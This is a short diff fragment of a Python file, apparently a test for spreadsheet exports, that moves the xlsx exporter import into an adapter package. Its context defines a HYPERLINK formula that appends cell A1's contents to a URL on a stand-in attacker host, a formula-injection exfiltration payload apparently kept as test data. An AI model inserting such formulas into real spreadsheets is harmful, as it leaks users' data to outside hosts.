@@ -12,7 +12,8 @@ from memory_store import MemoryStore
 
 import proctor
 from proctor import Sample, Task
-from proctor.exports import table, xlsx
+from proctor.exports import table
+from proctor_adapters.exports import xlsx
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 TEXTS = {
